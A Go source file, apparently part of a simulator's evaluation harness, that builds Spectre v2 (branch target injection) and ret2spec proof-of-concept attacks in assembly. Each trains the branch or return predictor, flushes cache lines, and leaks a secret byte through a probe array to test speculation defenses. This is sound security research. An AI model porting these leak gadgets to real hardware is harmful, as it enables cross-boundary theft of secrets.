package attack

// Spectre v2 (branch target injection) and ret2spec (return stack buffer
// mis-steering) — the remaining control-steering rows of the paper's
// Table 1. Both leak through the D-cache, so their expected verdicts match
// spectre-v1-cache: they defeat nothing but the insecure baseline.

// specSpectreV2 builds a branch-target-injection PoC. The victim exposes a
// dispatcher that indirect-calls a handler from a table. The attacker first
// invokes the dispatcher with an index that selects the *disclosure gadget*
// (training the BTB entry of the dispatcher's single call site), then
// invokes it with a benign index whose handler pointer loads slowly
// (flushed): the front end speculates into the gadget, which reads the
// secret and transmits it through the probe array before the indirect call
// resolves and squashes.
func specSpectreV2() *poc {
	src := `
        .data
        .org 0x100000
secret: .byte 42
        .align 64
        # handlers[0] = benign, handlers[1] = gadget. The benign pointer is
        # flushed before the victim call to widen the speculation window.
handlers: .word64 benign, gadget
` + dataCommon + `
        .text
main:   li   sp, 0x280000
        # Train: the attacker legitimately invokes the dispatcher with the
        # gadget index a few times, installing gadget as the predicted
        # target of the dispatcher's call site.
        li   s1, 8
train:  li   a0, 1           # a0 = handler index (gadget)
        li   a1, 0           # benign argument: gadget reads nothing secret
        call dispatch
        addi s1, s1, -1
        bne  s1, zero, train
` + flushProbe + `
        # Attack: flush the handler table so the benign pointer resolves
        # slowly, then make the victim dispatch the benign handler with the
        # secret-adjacent argument.
        la   s2, handlers
        clflush (s2)
        fence
        li   a0, 0           # benign index...
        la   a1, secret      # ...but the gadget (speculatively) gets this
        call dispatch
` + recoverCache + `
        halt

# dispatch(a0 = index, a1 = arg): handlers[index](a1)
dispatch:
        mv   s11, ra
        la   t0, handlers
        slli t1, a0, 3
        add  t0, t0, t1
        ld   t2, (t0)        # flushed on the attack call: resolves late
        callr t2             # BTB-predicted: speculates into the gadget
        mv   ra, s11
        ret

benign: li   t3, 0
        ret

# gadget(a1 = pointer): t = probe[*a1 * 512] — the disclosure sequence the
# attacker steered into.
gadget: lbu  t3, (a1)        # ACCESS
        slli t3, t3, 9
        la   t4, probe
        add  t4, t4, t3
        lbu  t5, (t4)        # TRANSMIT
        ret
`
	return newPoC(src, 40)
}

// specRet2spec builds a return-stack-buffer mis-steering PoC (ret2spec /
// Spectre-RSB). The victim function replaces its return address — as a
// context switch or stack rewrite would — with a value that resolves only
// after a long dependency chain. The RAS still predicts the original call
// site, whose following instructions are the disclosure gadget: the gadget
// runs on the wrong path for the whole window and transmits the secret.
func specRet2spec() *poc {
	src := `
        .data
        .org 0x100000
pub:    .word64 7            # victim data sharing the secret's cache line
secret: .byte 42             # pub+8
        .org 0x101000
far:    .word64 0
` + dataCommon + `
        .text
main:   li   sp, 0x280000
` + flushProbe + `
        la   s3, pub
        la   s4, probe
        ld   t6, (s3)        # ordinary victim activity warms the line
        call victim
        # The RAS predicted a return to HERE, so this gadget is
        # speculatively executed after the victim's mis-steered ret...
        lbu  t3, 8(s3)       # ACCESS the secret (wrong-path only)
        slli t3, t3, 9
        add  t4, s4, t3
        lbu  t5, (t4)        # TRANSMIT
        halt                 # (never reached architecturally)

cont:   # ...while the architectural return lands here.
` + recoverCache + `
        halt

# victim: replaces its return address through a slow dependency chain, so
# the stale RAS prediction stands for the whole speculation window.
victim: la   t0, far
        clflush (t0)
        fence
        ld   t1, (t0)        # cold: ~145 cycles
        andi t1, t1, 0
        la   t2, cont
        add  ra, t1, t2      # ra = cont, resolved very late
        ret                  # RAS predicts main's call site -> gadget runs
`
	return newPoC(src, 40)
}
